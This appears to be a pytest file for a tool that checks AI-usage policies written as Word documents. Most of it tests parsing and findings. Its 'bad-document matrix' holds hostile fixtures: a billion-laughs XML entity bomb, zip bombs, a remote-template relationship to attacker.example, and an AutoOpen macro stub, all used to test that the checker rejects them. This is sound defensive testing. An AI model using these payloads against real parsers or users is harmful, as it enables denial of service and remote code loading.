@@ -1,0 +1,240 @@
+"""Word policies: the template filled in with python-docx, read by paragraph number; the bad-document matrix."""
+
+from __future__ import annotations
+
+import io
+import time
+import zipfile
+
+import docx
+import pytest
+from conftest import run_cli
+from twins import TWIN_CODES, YAML_ONLY, fouten, twin_findings
+
+from aibeleid_check.engine import RuleSet, check_document
+from aibeleid_check.source import SourceKind, parse_bytes
+
+TOOLS = [("Tool", "Verwerkersovereenkomst", "Persoonsgegevens"), ("Microsoft 365 Copilot", "ja", "ja"),
+         ("DeepL Pro", "ja", "nee")]
+
+
+def _label(document, label: str, text: str = "", italic: bool = False):
+    paragraph = document.add_paragraph()
+    paragraph.add_run(label).bold = True
+    if text:
+        paragraph.add_run(" " + text).italic = italic
+    return paragraph
+
+
+def filled_template(tools=TOOLS, english: bool = False) -> docx.Document:
+    """The template as a small business fills it in Word: title, organisation, lists, table, fields."""
+    document = docx.Document()
+    document.add_heading("AI usage policy" if english else "AI-gebruiksbeleid", level=0)
+    document.add_paragraph("Bakkerij De Vries B.V.")
+    document.add_paragraph()  # an empty paragraph counts too, as Word's ¶ marks do
+    document.add_heading("Allowed" if english else "DIT MAG", level=2)
+    document.add_paragraph("✓ Concepten laten schrijven: mails, teksten, samenvattingen, die je daarna zelf nakijkt.",
+                           style="List Bullet")
+    document.add_heading("Not allowed" if english else "DIT NIET", level=2)
+    for text in ("Klant- of persoonsgegevens invoeren: namen, adressen, dossiers, e-mails.",
+                 "Bedrijfsgeheimen, contracten of financiële details delen.",
+                 "Een eindbesluit laten nemen over mensen, geld of risico.",
+                 "Antwoorden overnemen zonder ze zelf te controleren."):
+        document.add_paragraph("✗ " + text, style="List Bullet")
+    _label(document, "AVG, kort.", "Weet altijd waar de gegevens van een tool naartoe gaan.")
+    _label(document, "APPROVED TOOLS" if english else "GOEDGEKEURDE TOOLS")
+    table = document.add_table(rows=len(tools), cols=len(tools[0]))
+    for row, cells in enumerate(tools):
+        for column, text in enumerate(cells):
+            table.cell(row, column).text = text
+    _label(document, "AANSPREEKPUNT BIJ TWIJFEL", "Marieke de Vries · marieke@bakkerij.example")
+    _label(document, "DIT BELEID GELDT VOOR", "Alle medewerkers")
+    _label(document, "Effective date:" if english else "INGANGSDATUM", "1 maart 2026")
+    return document
+
+
+def _bytes(document) -> bytes:
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def _check(raw: bytes, name: str = "beleid.docx"):
+    return check_document(parse_bytes(raw, path=name), RuleSet())
+
+
+def _codes(raw: bytes, name: str = "beleid.docx") -> list[str]:
+    return [finding.rule for finding in _check(raw, name).findings]
+
+
+def test_the_filled_in_template_is_clean():
+    result = _check(_bytes(filled_template()))
+    assert [f.rule for f in result.findings if f.severity.value != "info"] == []
+    assert result.policy.organisatie == "Bakkerij De Vries B.V."
+    assert [tool.naam for tool in result.policy.goedgekeurde_tools] == ["Microsoft 365 Copilot", "DeepL Pro"]
+
+
+def test_english_labels_and_a_table_with_columns_in_another_order():
+    tools = [("Personal data", "Name", "DPA"), ("no", "DeepL Pro", "yes")]
+    doc = parse_bytes(_bytes(filled_template(tools, english=True)), path="policy.docx")
+    assert doc.data["goedgekeurde_tools"] == [{"persoonsgegevens": "no", "naam": "DeepL Pro",
+                                               "verwerkersovereenkomst": "yes"}]
+    assert len(doc.data["regels"]["mag_niet"]) == 4 and doc.data["ingangsdatum"] == "1 maart 2026"
+
+
+def test_tools_as_a_list_of_paragraphs():
+    document = filled_template(tools=[("Tool", "Verwerkersovereenkomst")])
+    document.add_paragraph("ChatGPT Business (verwerkersovereenkomst aangevraagd)", style="List Bullet")
+    # the list comes after the other fields here: its own label opens the tools again
+    document.add_paragraph().add_run("Goedgekeurde tools").bold = True
+    document.add_paragraph("DeepL Pro — verwerkersovereenkomst: ja, persoonsgegevens: nee", style="List Bullet")
+    tools = parse_bytes(_bytes(document), path="b.docx").data["goedgekeurde_tools"]
+    assert {"naam": "DeepL Pro", "verwerkersovereenkomst": "ja", "persoonsgegevens": "nee"} in tools
+
+
+def test_locations_are_paragraph_numbers_with_table_rows_counted():
+    tools = TOOLS[:2] + [("DeepL Pro", "", "nee")]
+    result = _check(_bytes(filled_template(tools)))
+    finding = next(f for f in result.findings if f.rule == "AIB302")
+    # title 1, organisation 2, empty 3, DIT MAG 4, rule 5, DIT NIET 6, rules 7-10, AVG 11, label 12, rows 13-15
+    assert finding.line == 15 and finding.column == 1
+    assert result.location_kind == "paragraph"
+
+
+def test_concise_report_shows_the_paragraph_mark(tmp_path):
+    path = tmp_path / "beleid.docx"
+    path.write_bytes(_bytes(filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])))
+    before = path.read_bytes()
+    proc = run_cli("check", "--format", "concise", str(path))
+    assert f"{path}:¶15: AIB302" in proc.stdout, proc.stdout + proc.stderr
+    assert path.read_bytes() == before  # the input is never written
+
+
+def test_template_prompts_are_empty_fields_but_an_italic_answer_counts():
+    document = filled_template()
+    date_paragraph = document.paragraphs[-1]
+    date_paragraph.runs[1].text = " Vanaf wanneer?"
+    date_paragraph.runs[1].italic = True
+    result = _check(_bytes(document))
+    assert result.policy.ingangsdatum is None and "AIB201" in [f.rule for f in result.findings]
+    date_paragraph.runs[1].text = " 1 maart 2026"  # typed over the question, still italic
+    assert parse_bytes(_bytes(document), path="b.docx").data["ingangsdatum"] == "1 maart 2026"
+
+
+def test_a_field_given_twice_is_a_duplicate():
+    document = filled_template()
+    _label(document, "INGANGSDATUM", "1 april 2026")
+    doc = parse_bytes(_bytes(document), path="b.docx")
+    assert doc.data["ingangsdatum"] == "1 april 2026"
+    assert any(p.kind is SourceKind.DUPLICATE_KEY for p in doc.problems)
+
+
+def test_unknown_label_names_the_nearest_section():
+    document = filled_template()
+    _label(document, "Herzieningsdatun:", "2027-03-01")
+    problem = next(p for p in parse_bytes(_bytes(document), path="b.docx").problems
+                   if p.kind is SourceKind.UNKNOWN_HEADING)
+    assert (problem.found, problem.key) == ("Herzieningsdatun", "Herzieningsdatum")
+
+
+def test_word_comment_is_a_suppression():
+    document = filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])
+    assert "AIB302" in _codes(_bytes(document))
+    cell_run = document.tables[0].cell(2, 0).paragraphs[0].runs[0]
+    document.add_comment(cell_run, text="aibeleid-check: ignore[AIB302] reden: draait on-premise", author="M")
+    codes = _codes(_bytes(document))
+    assert "AIB302" not in codes and "AIB902" not in codes
+    other = filled_template(TOOLS[:2] + [("DeepL Pro", "", "nee")])
+    other.add_comment(other.paragraphs[1].runs[0], text="aibeleid-check: ignore[AIB302] reden: x", author="M")
+    assert {"AIB302", "AIB902"} <= set(_codes(_bytes(other)))  # on another paragraph it covers nothing
+
+
+@pytest.mark.parametrize("path", fouten(), ids=lambda p: p.name)
+def test_every_mistake_has_a_word_twin_on_the_right_paragraph(path):
+    if path.name[:6] in YAML_ONLY:
+        pytest.skip(YAML_ONLY[path.name[:6]])
+    code, hits, yaml_value = twin_findings(path, "docx")
+    assert hits, f"{TWIN_CODES.get(code, code)} missing in the Word twin"
+    assert any(yaml_value in text for _, text in hits), (yaml_value, hits)
+
+
+# --- the bad-document matrix ---------------------------------------------------------------------------
+
+
+def _zip(entries: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def _with_part(name: str, data: bytes) -> bytes:
+    source = zipfile.ZipFile(io.BytesIO(_bytes(filled_template())))
+    entries = {info.filename: source.read(info.filename) for info in source.infolist()}
+    entries[name] = data
+    return _zip(entries)
+
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
+<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>
+<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"""
+EXTERNAL = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
+<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9"
+Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"""
+CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+
+
+def _many_entries() -> bytes:
+    return _zip({f"word/media/{i}.xml": b"x" for i in range(1200)})
+
+
+def _inflates_to_70_mib() -> bytes:
+    return _with_part("word/media/big.bin", b"\x00" * (70 * 1024 * 1024))
+
+
+MATRIX = {
+    "zip bomb, entries": (_many_entries, "beleid.docx", "AIB007", "1200"),
+    "zip bomb, inflated size": (_inflates_to_70_mib, "beleid.docx", "AIB007", "bytes"),
+    "billion laughs": (lambda: _with_part("word/document.xml", BILLION_LAUGHS), "beleid.docx", "AIB003", "DOCTYPE"),
+    "external relationship": (lambda: _with_part("word/_rels/settings.xml.rels", EXTERNAL), "beleid.docx", "AIB003",
+                              "attacker.example"),
+    "encrypted Word file": (lambda: CFB + "EncryptionInfo".encode("utf-16-le"), "beleid.docx", "AIB010",
+                            "versleuteld"),
+    "Word 97": (lambda: CFB + b"WordDocument", "beleid.doc", "AIB010", "sla het op als .docx"),
+    ".doc that is Word 97 named .docx": (lambda: CFB, "beleid.docx", "AIB010", ".docx"),
+    "OpenDocument": (lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}),
+                     "beleid.odt", "AIB010", "OpenDocument"),
+    "OpenDocument named .docx": (lambda: _zip({"mimetype": b"application/vnd.oasis.opendocument.text"}),
+                                 "beleid.docx", "AIB010", "OpenDocument"),
+    "PDF": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "beleid.pdf", "AIB010", "PDF"),
+    "not a zip": (lambda: b"organisatie: X\n", "beleid.docx", "AIB008", "zip"),
+    "broken zip": (lambda: b"PK\x03\x04broken", "beleid.docx", "AIB008", "zip"),
+    "zip without document.xml": (lambda: _zip({"a.txt": b"x"}), "beleid.docx", "AIB008", "document.xml"),
+    "empty file": (lambda: b"", "beleid.docx", "AIB005", ""),
+    "document without text": (lambda: _bytes(docx.Document()), "beleid.docx", "AIB005", ""),
+}
+
+
+@pytest.mark.parametrize("case", list(MATRIX))
+def test_bad_documents_are_a_finding_in_well_under_a_second(case):
+    make, name, code, words = MATRIX[case]
+    raw = make()
+    started = time.perf_counter()
+    result = _check(raw, name)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 0.5, f"{case}: {elapsed:.2f}s"
+    finding = next((f for f in result.findings if f.rule == code), None)
+    assert finding is not None, (case, [(f.rule, f.message.nl) for f in result.findings])
+    assert words in finding.message.nl, finding.message.nl
+    assert result.fails
+
+
+def test_docm_macros_are_not_run_and_its_text_is_read():
+    raw = _with_part("word/vbaProject.bin", b"Attribute VB_Name = \"AutoOpen\"")
+    result = _check(raw, "beleid.docm")
+    assert [f.rule for f in result.findings if f.severity.value != "info"] == []
